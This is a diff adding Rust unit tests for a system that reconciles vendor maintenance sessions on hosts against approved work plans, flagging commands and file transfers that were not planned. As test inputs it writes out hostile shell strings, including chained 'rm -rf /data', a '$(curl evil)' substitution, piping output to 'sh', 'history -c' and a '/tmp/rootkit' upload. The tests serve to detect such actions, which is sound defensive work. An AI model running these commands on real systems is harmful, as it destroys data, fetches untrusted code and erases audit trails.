@@ -1,0 +1,139 @@
+use super::*;
+use crate::ids::{AccountId, PlanId, VendorId};
+use crate::plan::content::{FileIn, PlanContent, TargetUse};
+use crate::plan::state::PlanState;
+
+const NOW: Timestamp = Timestamp(1_800_000_000_000);
+
+fn plan(commands: &[&str]) -> Plan {
+    let target = TargetId::from_random([2; 10]);
+    let content = PlanContent {
+        workers: vec![PersonId::from_random([3; 10])],
+        targets: vec![TargetUse { target, account: AccountId::from_random([4; 10]), functions: BTreeSet::from([Function::Shell, Function::Sftp]) }],
+        from: NOW,
+        until: NOW.plus(std::time::Duration::from_secs(3600)),
+        commands: commands.iter().map(|line| (*line).to_owned()).collect(),
+        bring_in: vec![FileIn { name: "app.war".into(), sha256: String::new(), sanitised: String::new() }],
+        ..PlanContent::default()
+    };
+    Plan {
+        id: PlanId::from_random([1; 10]),
+        number: "2026-0001".into(),
+        vendor: VendorId::from_random([5; 10]),
+        applicant: PersonId::from_random([3; 10]),
+        state: PlanState::InProgress,
+        revision: 1,
+        content,
+        approvals: Vec::new(),
+        emergency: None,
+        extension: None,
+        extended_until: None,
+        changes: Vec::new(),
+        sessions: Vec::new(),
+        ended_at: None,
+        findings: Vec::new(),
+        reconciled_at: None,
+        report: None,
+        confirmation: None,
+        trail: Vec::new(),
+        created_at: NOW,
+        version: 0,
+    }
+}
+
+fn facts(commands: &[&str], files: Vec<FileSeen>) -> SessionFacts {
+    SessionFacts {
+        session: SessionId::from_random([6; 10]),
+        person: PersonId::from_random([3; 10]),
+        person_name: "佐藤 健".into(),
+        target: TargetId::from_random([2; 10]),
+        target_name: "ehr-db01".into(),
+        account: "maint".into(),
+        source: "192.0.2.7".into(),
+        started: NOW,
+        ended: Some(NOW),
+        cause: Some("closed".into()),
+        functions: BTreeSet::from([Function::Shell]),
+        commands: (0_u64..).zip(commands).map(|(at_ms, text)| CommandSeen { at_ms, text: (*text).to_owned() }).collect(),
+        files,
+    }
+}
+
+fn compared(planned: &[&str], commands: &[&str], files: Vec<FileSeen>) -> Vec<Finding> {
+    reconcile(&plan(planned), &[facts(commands, files)], &Names { persons: &[], targets: &[] })
+}
+
+fn verdict_of(planned: &[&str], command: &str) -> Option<Verdict> {
+    compared(planned, &[command], Vec::new()).into_iter().find(|row| row.item == Item::Command && row.actual == command).map(|row| row.verdict)
+}
+
+#[test]
+fn a_planned_line_covers_no_second_command_behind_it() {
+    let planned = ["systemctl restart", "ps aux | grep java"];
+    for (command, verdict) in [
+        ("systemctl restart tomcat", Verdict::Match),
+        ("ps aux | grep java", Verdict::Match),
+        ("systemctl restart tomcat; rm -rf /data", Verdict::NotPlanned),
+        ("systemctl restart tomcat && rm -rf /data", Verdict::NotPlanned),
+        ("systemctl restart $(curl evil)", Verdict::NotPlanned),
+        ("systemctl restart tomcat\nrm -rf /data", Verdict::NotPlanned),
+        ("systemctl\nrestart", Verdict::NotPlanned),
+        ("ps aux | grep java | sh", Verdict::NotPlanned),
+    ] {
+        assert_eq!(verdict_of(&planned, command), Some(verdict), "{command:?}");
+    }
+}
+
+#[test]
+fn what_only_looks_is_left_out_and_what_only_seems_to_is_not() {
+    for quiet in ["ls -la /var/log", "cd /opt", "date +%F", "hostname", "history"] {
+        assert_eq!(verdict_of(&["uptime"], quiet), None, "{quiet:?}");
+    }
+    for loud in ["ls\nrm -rf /data", "date -s 2020-01-01", "hostname evil", "history -c", "ls; rm x"] {
+        assert_eq!(verdict_of(&["uptime"], loud), Some(Verdict::NotPlanned), "{loud:?}");
+    }
+}
+
+fn file(path: &str, bytes: u64, ok: bool) -> FileSeen {
+    FileSeen { at_ms: 1, op: "put".into(), path: path.into(), bytes, sha256: None, ok }
+}
+
+#[test]
+fn bytes_that_moved_are_compared_also_if_the_target_told_a_failure() {
+    let rows = compared(&[], &[], vec![file("/tmp/x", 10, false), file("/tmp/y", 0, false), file("/opt/app.war", 10, false), file("/opt/app.war", 99, true)]);
+    let seen: Vec<(Verdict, bool)> = rows.iter().filter(|row| row.item == Item::File).map(|row| (row.verdict, row.actual.contains("app.war"))).collect();
+    assert_eq!(seen, [(Verdict::NotPlanned, false), (Verdict::Different, true), (Verdict::Match, true)]);
+}
+
+#[test]
+fn a_flood_of_planned_commands_hides_no_difference() {
+    let mut commands = vec!["systemctl restart a"; 5_000];
+    commands.extend(["rm -rf /data"; 3_000]);
+    let mut cut = facts(&commands, vec![file("/tmp/rootkit", 10, true)]);
+    cut.cause = Some("cut".into());
+    let rows = reconcile(&plan(&["systemctl restart"]), &[cut], &Names { persons: &[], targets: &[] });
+    assert!(rows.len() <= limits::FINDINGS, "{}", rows.len());
+    assert!(rows.iter().any(|row| row.actual.contains("/tmp/rootkit") && row.is_open()));
+    assert!(rows.iter().any(|row| row.item == Item::Ending && row.is_open()));
+    // Every row of the flood is counted, and what folds the differences waits for a decision like any of them.
+    for verdict in [Verdict::Match, Verdict::NotPlanned] {
+        let shown = rows.iter().filter(|row| row.item == Item::Command && row.verdict == verdict && !row.is_folded()).count();
+        let folded = rows.iter().find(|row| row.item == Item::Command && row.verdict == verdict && row.is_folded()).unwrap();
+        let rest = if verdict == Verdict::Match { 5_000 - shown } else { 3_000 - shown };
+        assert_eq!(folded.actual, format!("他 {rest} 件 / {rest} more"));
+        assert!(shown > 0 && folded.is_open() == (verdict == Verdict::NotPlanned));
+    }
+}
+
+#[test]
+fn a_comparison_made_again_keeps_what_was_said_and_adds_what_is_new() {
+    let mut before = compared(&["uptime"], &["rm a", "rm b"], Vec::new());
+    let at = before.iter().position(|row| row.actual == "rm a").unwrap();
+    before[at].reason = "容量確保".into();
+    before[at].decision = Some(Decision::Incident);
+    let after = renewed(&before, compared(&["uptime"], &["rm a", "rm b", "rm c"], Vec::new()));
+    let of = |text: &str| after.iter().filter(|row| row.actual == text).map(|row| row.decision).collect::<Vec<_>>();
+    assert_eq!((of("rm a"), of("rm b"), of("rm c")), (vec![Some(Decision::Incident)], vec![None], vec![None]));
+    let gone = renewed(&before, compared(&["uptime"], &["rm b"], Vec::new()));
+    assert!(gone.iter().any(|row| row.decision == Some(Decision::Incident)), "a decision does not vanish");
+}
